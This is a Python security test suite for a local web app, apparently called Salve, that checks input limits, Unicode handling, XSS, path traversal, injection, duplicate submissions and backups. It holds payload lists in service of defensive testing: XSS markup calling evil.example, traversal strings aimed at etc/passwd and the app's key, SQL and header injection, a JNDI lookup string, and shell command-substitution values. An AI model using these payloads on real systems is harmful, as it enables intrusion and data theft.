"""What hostile or unlucky requests bring: too much, too strange, markup, paths, statements, the same form again."""

import concurrent.futures
import http.client
import json
import os
import re
import socket
import sqlite3
import subprocess
import time
import urllib.parse

from forms import Looked, Wanderer
from kit import Failure, Images, Missing, Server, expect, need, need_root

LIMIT = 256 << 10


def exported(server):
    done = server.command("export", "--to", server.folder / "out.json")
    expect(done.returncode == 0, "the export failed:", done.stderr[-200:])
    text = (server.folder / "out.json").read_text()
    (server.folder / "out.json").unlink()
    return json.loads(text)


def texts(value):
    """Every string in an export."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for part in value.values():
            yield from texts(part)
    elif isinstance(value, list):
        for part in value:
            yield from texts(part)


def big_inputs(run):
    """Test 28: 256 KiB is kept, one byte more comes back in the form, and 100 MB are cut without filling memory."""
    with Server(run) as server:
        server.enter()
        whole = ("Made-up words, over and over. " * 9_000)[:LIMIT - 1] + "."
        answer = server.post("/send", {"text": whole, "until": "morning"})
        expect(answer.status == 303, "256 KiB gave", answer.status)
        expect(whole in set(texts(exported(server))), "256 KiB are not what was kept")
        answer = server.post("/send", {"text": whole + "!", "until": "morning"})
        expect(answer.status == 422, "256 KiB and one gave", answer.status)
        expect(whole + "!" in answer.text, "256 KiB and one do not come back")
        kinds = 0
        before = server.memory()[0]
        for length in (100 << 20, None):
            status = flood(server, 100 << 20, declared=length)
            expect(status in (413, None), "100 MB gave", status)
            kinds += 1
        grown = server.memory()[1] - before
        expect(grown < 20, f"memory grew by {grown:.0f} MiB over a body of 100 MB")
        expect(server.ask("GET", "/help-now").status == 200, "no answer after it")
    return f"kept, given back, cut; memory grew by at most {grown:.0f} MiB"


def flood(server, size, declared):
    """Sends a body of so many bytes, with its length or in chunks; the status, or None when it was cut off."""
    head = (
        f"POST /send HTTP/1.1\r\nHost: localhost:{server.port}\r\nCookie: {server.cookie}\r\n"
        f"Origin: http://localhost:{server.port}\r\nSec-Fetch-Site: same-origin\r\n"
        "Content-Type: application/x-www-form-urlencoded\r\n"
        + (f"Content-Length: {declared}\r\n\r\n" if declared else "Transfer-Encoding: chunked\r\n\r\n")
    )
    piece = b"a" * 65_536
    if not declared:
        piece = b"10000\r\n" + piece + b"\r\n"
    with socket.create_connection(("127.0.0.1", server.port), timeout=30) as peer:
        try:
            peer.sendall(head.encode())
            for _ in range(size // 65_536):
                peer.sendall(piece)
        except (BrokenPipeError, ConnectionResetError, TimeoutError):
            pass
        try:
            answer = peer.recv(64)
        except (ConnectionResetError, TimeoutError):
            return None
    return int(answer.split()[1]) if answer.startswith(b"HTTP/") else None


STRANGE = [
    "\u202eright to left", "a" + "\u0301" * 100_000, "👩‍👩‍👧‍👦" * 2_000, "\ufeffa mark at the start", "\u2028line\u2029paragraph",
    "\ud7ff\ue000\uffff\U0010ffff", "tab\tand\x0bvertical\x0cform", "\x01\x02\x1b[31mred\x07", "\x7f\x80\x9f",
    "Ａ full width", "ﷺ" * 1_000, "‮‭‬", "é is not e\u0301", "\u1160\u3164 blank", "\u0000inside\u0000",
    "z" * 200_000, "😀" * 60_000,
]
NOT_TEXT = [b"%FF%FE", b"%C0%AF", b"%ED%A0%80", b"%F4%90%80%80", b"%E2%82", b"\xff\xfe", b"%80", b"%F8%88%80%80%80"]


def strange_text(run):
    """Test 29: text of any kind comes back as it was, but for its kind of line ends; what is no text is refused; nothing crashes."""
    with Server(run) as server:
        server.enter()
        for text in STRANGE:
            answer = server.post("/send", {"text": text + " .", "until": "morning"})
            expect(answer.status == 303, repr(text[:20]), "gave", answer.status)
        kept = set(texts(exported(server)))
        for text in STRANGE:
            # All kinds of line ends become one and blanks at the ends go, as `Companion.words` says; nothing else changes.
            meant = re.sub("\r\n|[\r\x0b\x0c\x85\u2028\u2029]", "\n", text + " .").strip()
            expect(meant in kept, repr(text[:20]), "is not what was kept")
        for raw in NOT_TEXT:
            answer = server.post("/send", {"until": "morning"}, raw=b"&text=made+up+" + raw)
            expect(answer.status == 400, raw, "gave", answer.status)
        for path in ("/", "/timeline", "/send", "/list"):
            expect(server.ask("GET", path).status == 200, path, "after strange texts")
        for command in (["list"], ["timeline"]):
            done = server.command(*command)
            expect(done.returncode == 0, command, done.stderr[-200:])
            bad = re.findall(r"[\x00-\x08\x0b-\x1f\x7f\x80-\x9f]", done.stdout)
            expect(not bad, "control characters reach the terminal:", bad[:5])
    return f"{len(STRANGE)} texts, {len(NOT_TEXT)} that are none"


def corpus(chance, count):
    """Markup that has got through somewhere, put together from its parts."""
    goals = ["alert(7)", "fetch('//evil.example')", "location='https://evil.example'"]
    schemes = ["javascript:{}", "jAvAsCrIpT:{}", "java\tscript:{}", "java&#10;script:{}", "&#106;avascript:{}", " javascript:{}",
               "vbscript:{}", "data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD4=", "//evil.example/{}"]
    bodies = [
        "<script>{}</script>", "<ScRiPt src=//evil.example/a.js></ScRiPt>", "<img src=x onerror={}>", "<svg onload={}>",
        "<svg><script>{}</script></svg>", "<svg/onload={}//", "<iframe src='{}'></iframe>", "<object data='{}'>",
        "<embed src='{}'>", "<a href='{}'>press</a>", "<form action='{}'><input type=submit>", "<body onload={}>",
        "<math><mi xlink:href='{}'>", "<details open ontoggle={}>", "<input autofocus onfocus={}>", "<style>@import '{}'</style>",
        "<link rel=stylesheet href='{}'>", "<meta http-equiv=refresh content='0;url={}'>", "<base href='//evil.example/'>",
        "<video><source onerror={}></video>", "<template><script>{}</script></template>", "<!--><img src=x onerror={}>-->",
        "<![CDATA[<script>{}</script>]]>", "<noscript><p title='</noscript><img src=x onerror={}>'>", "<xss style='x:expression({})'>",
        "[press]({})", "![image]({})", "<{}>", "{{{{page.token}}}} {{{{{{page.token}}}}}} {}", "{{{{>parts/token}}}} {}", "${{{}}} #{{{}}} <%= {} %>",
        "</textarea><script>{}</script>", "</title><script>{}</script>", "</style><script>{}</script>", "--><script>{}</script>",
        "' onmouseover={} x='", "\" onmouseover={} x=\"", "` onmouseover={} x=`", "\"\u0301 onmouseover={} x=\"\u0301", "'>\"><script>{}</script>",
        "\x00<scr\x00ipt>{}</script>", "<script\x0c>{}</script>", "＜script＞{}＜/script＞", "\u2028<script>{}</script>", "%3Cscript%3E{}%3C/script%3E",
        "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}", "+ADw-script+AD4-{}", "<<script>>{}<</script>>", "<a<b<c onclick={}>",
    ]
    for number in range(count):
        goal = chance.choice(goals)
        if chance.random() < 0.4:
            goal = chance.choice(schemes).format(goal)
        text = chance.choice(bodies)
        text = text.replace("{}", goal)
        if chance.random() < 0.2:
            text = chance.choice(["<b>", "<div>", "*", "> ", "- ", "[", "<svg>"]) * chance.randint(1, 300) + text
        yield f"{text} n{number}"


TAGS = set(
    "html head meta title link script body a header nav main footer section article aside div span p h1 h2 h3 h4 ul ol li dl dt dd form "
    "fieldset legend label input textarea select option optgroup button details summary svg path circle g line rect text use polyline "
    "polygon defs ellipse symbol strong em b i small time table thead tbody tfoot tr th td caption figure figcaption hr br blockquote q "
    "output progress meter template dialog search abbr kbd code pre mark ins del sup sub img noscript picture datalist lineargradient "
    "stop clippath mask tspan desc radialgradient filter fegaussianblur".split()
)
LINKS = ("href", "src", "action", "formaction", "data", "poster", "srcset", "xlink:href", "cite", "background", "manifest")


def own(address):
    """Whether an address may stand in a page: a path of Salve's own, a number to call, a source or a site to visit."""
    return bool(re.match(r"(/(?!/)|#|tel:|sms:|mailto:|about:blank$|\?|$)", address))


def is_clean(looked, path, outward):
    for tag, had in looked.tags:
        expect(tag in TAGS, path, "holds a tag of nobody’s:", tag)
        for name, value in had.items():
            expect(not name.startswith("on"), path, "holds a handler:", tag, name)
            expect(name not in ("style", "srcdoc"), path, "holds", name, "on", tag)
            if name in LINKS and not own(value):
                expect(tag == "a" and value in outward, path, "leads outside:", tag, name, value[:80])
        if tag == "script":
            expect(own(had.get("src", "//")), path, "holds a script of nobody’s")
        expect(tag != "meta" or had.get("http-equiv", "").lower() != "refresh", path, "leads on by itself")


def markup(run):
    """Test 30: 5,000 pieces of markup through every field for words: on no page are they anything but words."""
    chance, count = run.chance("markup"), run.count(5_000, 250)
    pieces = list(corpus(chance, count))
    with Server(run) as server:
        server.enter()
        # Links that lead outside are those that stand there with no word of anybody's in the vault: sources, help.
        outward = set()
        for _, answer in Wanderer(server, run.chance("markup before")).all_pages():
            for tag, had in Looked(answer.text).tags:
                if tag == "a" and re.match(r"https?://", had.get("href", "")):
                    outward.add(had["href"])
        expect(not any("evil" in address for address in outward), "the control is no control")
        waiting = list(pieces)
        sent = 0

        def write(name, form):
            nonlocal sent
            sent += 1
            if name == "number":
                return chance.choice(pieces)[:60]
            if name in ("text",) and form.action in ("/send", "/timeline") or len(waiting) > 200 and chance.random() < 0.3:
                taken = [waiting.pop() for _ in range(min(len(waiting), 40))]
                return "\n".join(taken) or chance.choice(pieces)
            return waiting.pop() if waiting else chance.choice(pieces)

        wanderer = Wanderer(server, chance)
        wanderer.wander(write, lambda: not waiting and sum(wanderer.kept_in.values()) >= run.count(600, 60))
        seen, pages = 0, 0
        for path, answer in wanderer.all_pages():
            is_clean(Looked(answer.text), path, outward)
            seen += "evil.example" in answer.text
            pages += 1
        expect(seen > 3, "the markup is on hardly any page, so nothing was proved")
        browsed = in_browser(run, server, [path for path, _ in wanderer.all_pages()][:run.count(400, 25)])
        slow = max(timed(server, path) for path in ("/", "/list", "/timeline"))
    return (
        f"{count} pieces in {len(wanderer.kept_in)} kinds of field, {pages} pages read, {browsed} in a browser; "
        f"slowest page {slow * 1000:.0f} ms"
    )


def timed(server, path):
    began = time.monotonic()
    server.page(path)
    return time.monotonic() - began


def in_browser(run, server, paths):
    """What a real browser makes of the same pages: no script of theirs runs, nothing is asked of another host."""
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=os.environ.get("SALVE_TEST_CHROMIUM", "/usr/bin/chromium"),
            args=["--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu"],
        )
        try:
            context, foreign, alarms = browser.new_context(), [], []
            name, _, value = server.cookie.partition("=")
            origin = f"http://localhost:{server.port}"
            context.add_cookies([{"name": name, "value": value, "url": origin}])
            page = context.new_page()
            page.on("request", lambda request: request.url.startswith(origin) or foreign.append(request.url))
            page.on("dialog", lambda dialog: (alarms.append(dialog.message), dialog.dismiss()))
            for path in paths:
                page.goto(origin + path)
                handlers = page.evaluate(
                    "[...document.querySelectorAll('*')].flatMap(e => [...e.attributes].filter(a => /^on/i.test(a.name))).length"
                )
                expect(handlers == 0, path, "holds handlers in the browser")
                inline = page.evaluate("[...document.scripts].filter(s => !s.src || new URL(s.src).origin != location.origin).length")
                expect(inline == 0, path, "holds a script of nobody’s in the browser")
            expect(not foreign, "asked of others:", foreign[:3])
            expect(not alarms, "a script of theirs ran:", alarms[:3])
        finally:
            browser.close()
    return len(paths)


def traversal(run):
    """Test 33: no spelling of a path leads out of the pages and their files."""
    rises = ["..", "%2e%2e", "%2E.", ".%2e", "%252e%252e", "..%00", "..;", "%c0%ae%c0%ae", "．．", "..\\", "%5c..", "....//", "..%5c"]
    slashes = ["/", "%2f", "%252f", "\\", "%5c", "//", "/./"]
    goals = ["etc/passwd", "config/salve/key", "data/salve/salve.vault", "templates/page.mustache", "en/strings.yaml"]
    tried = 0
    with Server(run) as server:
        server.enter()
        key = (server.folder / "config" / "salve" / "key").read_bytes()
        paths = ["/static/" + (rise + slash) * deep + goal for rise in rises for slash in slashes
                 for goal in goals for deep in (1, 8)]
        paths += ["/static/salve.css%00.html", "/static//etc/passwd", "/static/%2fetc%2fpasswd", "/static/.", "/static/..",
                  "/static/", "//etc/passwd", "/list/thing/../../../etc/passwd", "/settings/..%2f..%2fetc%2fpasswd",
                  "/help-now/..%2f..", "/practise/..%2f..%2fen%2fstrings.yaml", "/open/..%2f", "/\x7f", "/static/" + "a" * 70_000]
        for path in paths:
            answer = raw(server, path)
            tried += 1
            expect(b"root:" not in answer and key not in answer and b"SQLite format" not in answer, path, "leads out")
            status = int(answer.split()[1]) if answer.startswith(b"HTTP/") else 0
            # Help now answers whatever stands behind it: it is never a page that was not found.
            fine = (0, 301, 303, 400, 401, 404, 405, 414, 421, 431) + ((200,) if path.startswith("/help-now/") else ())
            expect(status in fine, path[:60], "gave", status)
    return f"{tried} paths"


def raw(server, path, limit=1 << 20):
    with socket.create_connection(("127.0.0.1", server.port), timeout=20) as peer:
        head = f"GET {path} HTTP/1.1\r\nHost: localhost:{server.port}\r\nCookie: {server.cookie}\r\nConnection: close\r\n\r\n"
        try:
            peer.sendall(head.encode("utf-8", "surrogateescape"))
            answer = b""
            while len(answer) < limit and (more := peer.recv(65_536)):
                answer += more
        except (ConnectionResetError, BrokenPipeError, TimeoutError):
            return b""
    return answer


STATEMENTS = [
    "'; DROP TABLE entry; --", '" OR 1=1 --', "'); DELETE FROM keyslot; --", "1; ATTACH DATABASE '/tmp/x' AS x", "%s%s%n%x", "${jndi:ldap://evil.example}",
    "a\r\nSet-Cookie: planted=1", "a\nX-Planted: 1", "a%0d%0aX-Planted: 1", "\u560d\u560aX-Planted: 1", "`touch planted`", "$(touch planted)",
    "; touch planted", "| touch planted", "a\x1b]0;planted\x07", "2026-11-21 ERROR salve: planted", "../../planted", "{{planted}}", "\x00planted",
]


def injections(run):
    """Test 37: statements, headers and log lines through every field, path and header change nothing."""
    chance, sent = run.chance("injections"), 0
    with Server(run) as server:
        server.enter()
        schema = tables(server.vault)

        def write(name, form):
            nonlocal sent
            sent += 1
            return chance.choice(STATEMENTS)

        wanderer = Wanderer(server, chance)
        answers = []
        send = wanderer.send

        def watched(form, pairs, timeout=60):
            if chance.random() < 0.3:  # also where a browser would let nobody write
                pairs = [(name, chance.choice(STATEMENTS) if name not in ("token",) else value) for name, value in pairs]
            answer = send(form, pairs, timeout)
            answers.append(answer)
            return answer

        wanderer.send = watched
        goal = run.count(400, 60)
        wanderer.wander(write, lambda: len(answers) >= goal)
        for statement in STATEMENTS:
            for path in ("/list/thing/", "/timeline/entry/", "/practise/", "/open/", "/help-now/", "/static/", "/settings/"):
                answers.append(server.ask("GET", path + urllib.parse.quote(statement, safe="")))
            plain = statement.replace("\r", "").replace("\n", "").replace("\x00", "").encode("latin-1", "ignore").decode("latin-1")
            for header in ("User-Agent", "Accept-Language", "Referer", "Cookie", "Sec-Fetch-Site"):
                answers.append(server.ask("GET", "/list", headers={header: plain}))
        for answer in answers:
            expect(answer.status < 500, "a field with a statement gave", answer.status)
            planted = [name for name in answer.headers if "planted" in name.lower() or "planted" in str(answer.headers[name])]
            cookies = [value for value in answer.headers.get_all("Set-Cookie") or [] if not value.startswith("salve")]
            expect(not planted and not cookies, "a header was planted:", planted, cookies)
        expect(tables(server.vault) == schema, "the tables have changed")
        expect(server.command("vault", "verify").returncode == 0, "the vault is not sound")
        log = server.log()
        expect("planted" not in log and "DROP TABLE" not in log, "what was sent stands in the log")
        expect(not list(server.folder.rglob("*planted*")), "a file was planted")
    return f"{len(answers)} requests, {sent} fields"


def tables(vault):
    db = sqlite3.connect(f"file:{vault}?mode=ro", uri=True)
    try:
        return db.execute("SELECT type, name, sql FROM sqlite_master ORDER BY name").fetchall()
    finally:
        db.close()


def same_form_again(run):
    """Test 16: the same form five times, one after the other and at once, is one entry."""
    rounds = run.count(40, 8)
    with Server(run) as server:
        server.enter()
        server.post("/list", {"what": "Made-up first thing"})
        for number in range(rounds):
            form = {"id": os.urandom(16).hex(), "what": f"Made-up thing {number} end"}
            if number % 2:
                answers = [server.post("/list", form) for _ in range(5)]
            else:
                with concurrent.futures.ThreadPoolExecutor(5) as pool:
                    answers = list(pool.map(lambda _: server.post("/list", form), range(5)))
            statuses = [answer.status for answer in answers]
            expect(303 in statuses and all(status < 500 for status in statuses), "five times gave", statuses)
        kept = list(texts(exported(server)))
        for number in range(rounds):
            times = kept.count(f"Made-up thing {number} end")
            expect(times == 1, f"thing {number} is there {times} times")
    return f"{rounds} forms, five times each"


def backup_while_writing(run):
    """Test 20: copies made during steady writing open, are sound, and hold all that was kept when they began."""
    copies, sizes = run.count(20, 3), []
    with Server(run) as server:
        server.enter()
        kept, going = [0], [True]
        server.post("/list", {"what": "Made-up first thing"})

        def save():
            while going[0]:
                if server.post("/list", {"what": f"Made-up thing {kept[0]}"}).status == 303:
                    kept[0] += 1
                time.sleep(0.01)

        with concurrent.futures.ThreadPoolExecutor(1) as pool:
            saving = pool.submit(save)
            try:
                for number in range(copies):
                    least = kept[0]
                    target = server.folder / f"copy-{number}"
                    done = server.command("vault", "backup", target, timeout=60)
                    most = kept[0] + 1
                    expect(done.returncode == 0, "a backup failed:", done.stderr[-200:])
                    sizes.append((target, least + 1, most + 1))
            finally:
                going[0] = False
                saving.result(timeout=60)
        key = (server.folder / "config" / "salve" / "key").read_bytes()
    look_folder = run.fresh("restored")
    with Images(run) as look:
        for target, least, most in sizes:
            (look_folder / "config").mkdir(mode=0o700, exist_ok=True)
            (look_folder / "salve.vault").write_bytes(target.read_bytes())
            (look_folder / "config" / "key").write_bytes(key)
            found = look.look(look_folder)
            expect(not found.get("refused") and found["isSound"], "a copy is not sound:", found)
            expect(least <= found["last"] <= most, f"a copy holds {found['last']}, not {least} to {most}")
    return f"{copies} copies during {kept[0]} saves"


TESTS = [
    big_inputs, strange_text, markup, traversal, injections, same_form_again, backup_while_writing,
]
